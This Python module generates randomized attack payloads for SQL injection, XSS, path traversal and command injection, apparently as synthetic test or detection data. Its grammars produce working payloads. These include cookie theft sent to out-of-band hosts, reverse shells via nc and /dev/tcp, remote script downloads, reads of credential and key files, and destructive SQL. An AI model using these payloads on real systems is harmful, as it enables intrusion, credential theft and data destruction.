"""Attack payload grammars: SQL injection, XSS, path traversal and command injection.

Payloads are composed, not listed: SQLi from quotes x techniques (tautologies, ``UNION
SELECT`` with random column counts, stacked queries, time-, error- and boolean-based probes)
x comment styles x encodings; XSS from breakouts x tags x event handlers x JavaScript
payloads x encodings; traversal from ``../`` variants x depth x target files x suffixes;
command injection from separators x commands x arguments x evasions. Random numbers, hosts
and tokens make most draws distinct.
"""

from __future__ import annotations

import numpy as np
import pyarrow as pa

from workbench.errors import InputError
from workbench.synth.arrays import join, url_encode
from workbench.synth.grammar import Alt, Encode, Fn, Many, Node, Num, Same, Seq, Tok, replace

ATTACK_CLASSES = ("sqli", "xss", "traversal", "cmdi")

_URL = lambda v: url_encode(v, "%'\"<>()=;&|`/\\# ,+{}$")  # noqa: E731
_DOUBLE = lambda v: url_encode(_URL(v), "%")  # noqa: E731
_LOWER = replace(*((w, w.lower()) for w in ("UNION", "SELECT", "FROM", "AND", "OR ", "SLEEP",
                                            "WHERE", "ORDER BY", "NULL", "CONCAT")))  # fmt: skip


def _same_pair(left: str, sep: str, right: str, tok: bool = False) -> Fn:
    """``left X sep X right`` with the same random X twice (``1=1``, ``'ab'='ab'``)."""

    def draw(rng: np.random.Generator, n: int) -> pa.Array:
        x = Tok(1, 4).draw(rng, n) if tok else Num(0, 9999).draw(rng, n)
        return join(left, x, sep, x, right)

    return Fn(draw)


def _ip() -> Node:
    return Seq(Num(1, 223), ".", Num(0, 255), ".", Num(0, 255), ".", Num(1, 254))


_HOST = Seq(Tok(6, 12), Alt([".oast.fun", ".oastify.com", ".burpcollaborator.net",
                             ".interact.sh", ".xss.ht", ".requestcatcher.com"]))  # fmt: skip

# --- SQL injection ----------------------------------------------------------------------
_TABLES = Alt(["users", "admin", "accounts", "customers", "orders", "sessions", "wp_users"])
_INFO = Alt(
    [
        "@@version",
        "version()",
        "database()",
        "user()",
        "current_user",
        "table_name FROM information_schema.tables LIMIT 1",
        "password FROM users LIMIT 1",
    ]
)
_SQL_TAUT = Alt([
    Seq(" OR ", _same_pair("", "=", "")), Seq(" OR ", _same_pair("'", "'='", "", tok=True)),
    " OR 1=1", " OR true", " || 1=1", " OR 2>1", " AND 1=1", Seq(" OR ", Num(1, 99), " LIKE ",
    Num(1, 99)), " OR 'a'='a", " OR 1=1 LIMIT 1", " OR ''='",
])  # fmt: skip
_SQL_UNION = Seq(
    Alt([" UNION SELECT ", " UNION ALL SELECT ", " UNION DISTINCT SELECT ", " UnIoN SeLeCt ",
         " /*!50000UNION*/ /*!50000SELECT*/ "]),
    Many(Alt(["NULL", Num(1, 99), "@@version", "user()", "database()", "version()",
              "table_name", "concat(username,0x3a,password)", "CHAR(113,118,106,112,113)",
              "current_user", "group_concat(column_name)"], [6, 3, 1, 1, 1, 1, 1, 1, 1, 1, 1]),
         1, 12),
    Alt(["", " FROM information_schema.tables", " FROM information_schema.columns",
         Seq(" FROM ", _TABLES), " FROM dual"]),
)  # fmt: skip
_SQL_STACKED = Seq(Alt([";", "; "]), Alt([
    Seq("DROP TABLE ", _TABLES), Seq("SELECT pg_sleep(", Num(1, 30), ")"),
    Seq("WAITFOR DELAY '0:0:", Num(1, 30), "'"),
    Seq("EXEC xp_cmdshell('", Alt(["whoami", "dir", "ping 127.0.0.1", "net user"]), "')"),
    Seq("INSERT INTO ", _TABLES, " VALUES(", Num(1, 9999), ",'", Tok(4, 10), "')"),
    Seq("UPDATE users SET role='admin' WHERE id=", Num(1, 9999)), "SHUTDOWN",
    Seq("DELETE FROM ", _TABLES), Seq("SELECT ", _INFO),
]))  # fmt: skip
_SQL_TIME = Alt([
    Seq(" AND SLEEP(", Num(1, 30), ")"),
    Seq(" AND (SELECT ", Num(1, 9999), " FROM (SELECT(SLEEP(", Num(1, 30), ")))", Tok(4), ")"),
    Seq(" OR BENCHMARK(", Num(1_000_000, 50_000_000), ",MD5(", Num(1, 99), "))"),
    Seq(" AND 1=(SELECT 1 FROM PG_SLEEP(", Num(1, 30), "))"),
    Seq(" WAITFOR DELAY '0:0:", Num(1, 30), "'"),
    Seq(" AND ", Num(1, 9999), "=DBMS_PIPE.RECEIVE_MESSAGE(CHR(", Num(65, 90), "),", Num(1, 30), ")"),
    Seq(" OR IF(1=1,SLEEP(", Num(1, 30), "),0)"),
])  # fmt: skip
_SQL_ERROR = Alt([
    Seq(" AND extractvalue(1,concat(0x7e,(SELECT ", _INFO, "),0x7e))"),
    Seq(" AND updatexml(1,concat(0x7e,(SELECT ", _INFO, ")),1)"),
    Seq(" AND 1=CONVERT(int,(SELECT ", _INFO, "))"),
    Seq(" AND ", Num(1, 9999), "=CAST((SELECT ", _INFO, ") AS int)"),
    " AND GTID_SUBSET(@@version,0)", " AND EXP(~(SELECT * FROM (SELECT USER())a))",
])  # fmt: skip
_SQL_BOOL = Alt([
    Seq(" AND ", Num(1, 99), "=", Num(1, 99)), _same_pair(" AND ", "=", ""),
    Seq(" AND SUBSTRING(", _INFO, ",", Num(1, 20), ",1)='", Tok(1), "'"),
    Seq(" AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),", Num(1, 32), ",1))>",
        Num(32, 126)),
    Seq(" AND LENGTH(database())=", Num(1, 20)),
    Seq(" AND (SELECT COUNT(*) FROM ", _TABLES, ")>", Num(0, 99)),
])  # fmt: skip
SQLI: Node = Encode(
    Seq(
        Alt(["", "1", "-1", "0", "admin", Num(1, 99999), "x", "test"], [4, 3, 1, 1, 1, 3, 1, 1]),
        Alt(["'", '"', "')", '")', "'))", "", "`"], [8, 2, 2, 1, 1, 4, 0.5]),
        Alt([_SQL_TAUT, _SQL_UNION, _SQL_STACKED, _SQL_TIME, _SQL_ERROR, _SQL_BOOL,
             Seq(" ORDER BY ", Num(1, 30)), Seq(" GROUP BY ", Num(1, 30), " HAVING 1=1")],
            [5, 5, 2, 3, 2, 3, 1.5, 0.5]),
        Alt(["--", "-- -", "#", "/*", ";--", "", Seq("-- ", Tok(3)), "%00", "-- +"],
            [5, 3, 3, 1, 1, 4, 1, 0.5, 1]),
    ),
    [(None, 5), (_LOWER, 1), (replace((" ", "/**/")), 1.2), (replace((" ", "+")), 1),
     (replace((" ", "%0a")), 0.4), (_URL, 1.5), (_DOUBLE, 0.3)],
)  # fmt: skip

# --- cross-site scripting -----------------------------------------------------------------
_JS = Alt([
    "alert(1)", Seq("alert(", Num(1, 9999), ")"), "alert(document.cookie)",
    "alert(document.domain)", Seq("prompt(", Num(1, 999), ")"), Seq("confirm(", Num(1, 999), ")"),
    "print()", Seq("fetch('//", _HOST, "/?c='+document.cookie)"),
    Seq("document.location='//", _HOST, "/'+document.cookie"),
    Seq("eval(atob('", Tok(12, 24, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"),
        "'))"),
    "top['al'+'ert'](1)", "window.onerror=alert;throw 1", Seq("import('//", _HOST, "/x.js')"),
    "alert`1`", Seq("new Image().src='//", _HOST, "/?'+document.cookie"), "\\u0061lert(1)",
], [4, 3, 2, 2, 1, 1, 0.5, 1.5, 1, 1, 0.5, 0.5, 0.7, 0.5, 1, 0.3])  # fmt: skip
_TAGS = Alt(["img", "svg", "body", "video", "audio", "details", "input", "marquee", "iframe",
             "object", "math", "IMG", "SvG", "select", "textarea", "x"])  # fmt: skip
_EVENTS = Alt(["onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onbegin",
               "onanimationstart", "onpointerenter", "onclick", "OnErRoR", "onfocusin"])  # fmt: skip
_XSS_TAG = Seq(
    "<", _TAGS, Alt([" ", "/", "%09", "\n"], [6, 2, 1, 0.5]),
    Alt(["src=x ", "", "autofocus ", "open ", "tabindex=1 ", "src=1 href=1 "]),
    _EVENTS, "=", Alt([_JS, Seq('"', _JS, '"'), Seq("'", _JS, "'")], [3, 2, 1]),
    Alt([">", "/>", " x>", "//", ">x</x>"]),
)  # fmt: skip
_XSS_SCRIPT = Seq(
    Alt(["<script>", "<SCRIPT>", "<ScRiPt>", "<script type=text/javascript>",
         "<scr<script>ipt>"], [5, 1, 1, 1, 0.5]),
    _JS, Alt(["</script>", "</SCRIPT>", "</script >"], [5, 1, 1]),
)  # fmt: skip
_JS_URI = Seq(Alt(["javascript:", "JaVaScRiPt:", "java&#x09;script:", "&#106;avascript:",
                   "javascript://%0a"]), _JS)  # fmt: skip
XSS: Node = Encode(
    Seq(
        Alt(["", '">', "'>", "</title>", "</textarea>", "-->", '"/>', "</script>", "';", '";'],
            [6, 4, 2, 1, 1, 1, 1, 1, 1, 1]),
        Alt([_XSS_SCRIPT, _XSS_TAG, _JS_URI, Seq('<a href="', _JS_URI, '">', Tok(1, 6), "</a>"),
             Seq('<iframe src="', _JS_URI, '">'), Seq("<svg><script>", _JS, "</script></svg>"),
             Seq("<script src=//", _HOST, "/x.js></script>")], [5, 7, 1.5, 1, 1, 0.5, 1]),
    ),
    [(None, 5), (_URL, 2.5), (_DOUBLE, 0.4),
     (replace(("<", "&lt;"), (">", "&gt;")), 0.6), (replace(("<", "%u003c"), (">", "%u003e")), 0.3),
     (replace(("<", "\\x3c"), (">", "\\x3e")), 0.3)],
)  # fmt: skip

# --- path traversal -----------------------------------------------------------------------
_TARGETS = Alt([
    "etc/passwd", "etc/shadow", "etc/hosts", "etc/issue", "proc/self/environ", "proc/version",
    "windows/win.ini", "windows/system32/drivers/etc/hosts", "boot.ini",
    "var/log/apache2/access.log", "var/www/html/.env", "WEB-INF/web.xml",
    "inetpub/wwwroot/web.config", "app/config/parameters.yml", "root/.ssh/id_rsa",
    Seq("home/", Alt(["ubuntu", "admin", "deploy", "www-data"]), "/.bash_history"),
    Seq("proc/", Num(1, 4096), "/cmdline"), "etc/nginx/nginx.conf", ".aws/credentials",
], [8, 2, 2, 1, 2, 1, 4, 1, 1, 1, 1.5, 1.5, 1, 0.5, 1, 1, 0.7, 1, 1])  # fmt: skip
_UNITS = Alt(["../", "..\\", "..%2f", "%2e%2e/", "%2e%2e%2f", "..%252f", "....//", "..%c0%af",
              "%252e%252e%252f", "..;/", ".%2e/", "..%5c", "%2e%2e%5c", "..\\/"],
             [10, 3, 3, 2, 3, 1, 2, 1, 1, 1, 1, 1, 1, 0.5])  # fmt: skip
TRAVERSAL: Node = Encode(
    Alt([
        Seq(Alt(["", "", "/", "static/", "images/", "/var/www/images/", "assets/", "./"]),
            Same(_UNITS, 1, 12), _TARGETS,
            Alt(["", "%00", "%00.png", ".jpg", "?", "%00.html", ";.css"], [10, 1.5, 1, 0.5, 0.5, 0.5, 0.5])),
        Alt(["/etc/passwd", "file:///etc/passwd", "C:\\Windows\\win.ini", "c:/boot.ini",
             "php://filter/convert.base64-encode/resource=index.php",
             "php://filter/resource=/etc/passwd", "file:///c:/windows/win.ini",
             Seq("/proc/self/fd/", Num(0, 64))]),
    ], [9, 1.5]),
    [(None, 7), (replace(("/", "%2f")), 1), (replace(("/", "\\")), 0.7), (_DOUBLE, 0.4)],
)  # fmt: skip

# --- command injection --------------------------------------------------------------------
_CMD = Alt([
    "id", "whoami", "uname -a", "cat /etc/passwd", "ls -la", "ls -la /", "pwd", "env", "ps aux",
    Seq("ping -c ", Num(1, 10), " ", _ip()), Seq("sleep ", Num(1, 30)),
    Seq("curl http://", _HOST, "/", Tok(4, 10)),
    Seq("wget http://", _HOST, "/", Tok(4, 8), ".sh -O /tmp/", Tok(4, 8)),
    Seq("nslookup ", Tok(6, 12), ".", _HOST), Seq("nc -e /bin/sh ", _ip(), " ", Num(1024, 65535)),
    Seq("bash -i >& /dev/tcp/", _ip(), "/", Num(1024, 65535), " 0>&1"), Seq("echo ", Tok(6, 16)),
    "type C:\\Windows\\win.ini", Seq("powershell -c iwr http://", _HOST, "/", Tok(4, 10)),
    "cat${IFS}/etc/passwd", "net user", "ipconfig /all", "ifconfig",
    Seq("expr ", Num(100, 999), " + ", Num(100, 999)), Seq("timeout /T ", Num(1, 20)),
])  # fmt: skip
CMDI: Node = Encode(
    Seq(
        Alt(["", "127.0.0.1", "localhost", "1", "test", "x", "8.8.8.8", "example.com"],
            [4, 3, 1, 1, 1, 1, 1, 1]),
        Alt([Seq(";", _CMD), Seq("|", _CMD), Seq("||", _CMD), Seq("&", _CMD), Seq("&&", _CMD),
             Seq("%0a", _CMD), Seq("`", _CMD, "`"), Seq("$(", _CMD, ")"), Seq("%3B", _CMD),
             Seq("\n", _CMD), Seq("; ", _CMD), Seq(" | ", _CMD)],
            [5, 3, 1.5, 1.5, 2, 1, 1.5, 2, 0.7, 0.5, 2, 1]),
        Alt(["", "", "#", ";", "&", "|", " #"], [6, 3, 1, 1, 0.5, 0.5, 0.5]),
    ),
    [(None, 6), (replace((" ", "${IFS}")), 1.2), (replace((" ", "%09")), 0.8), (_URL, 1.5),
     (replace((" ", "+")), 0.6)],
)  # fmt: skip

GRAMMARS: dict[str, Node] = {"sqli": SQLI, "xss": XSS, "traversal": TRAVERSAL, "cmdi": CMDI}


def generate_payloads(attack_class: str, n: int, rng: np.random.Generator) -> pa.Array:
    """Draw ``n`` attack payloads of one class from its grammar.

    Parameters
    ----------
    attack_class : str
        One of :data:`ATTACK_CLASSES`.
    n : int
        Number of payloads.
    rng : numpy.random.Generator
        Random source.

    Returns
    -------
    pyarrow.StringArray
        The payloads (raw: not yet encoded for a URL).

    Raises
    ------
    InputError
        When the class is unknown or ``n`` is negative.
    """
    if attack_class not in GRAMMARS:
        raise InputError(f"unknown attack class {attack_class!r}; use one of {ATTACK_CLASSES}")
    if n < 0:
        raise InputError(f"number of payloads must be >= 0, got {n}")
    return GRAMMARS[attack_class].draw(rng, n)
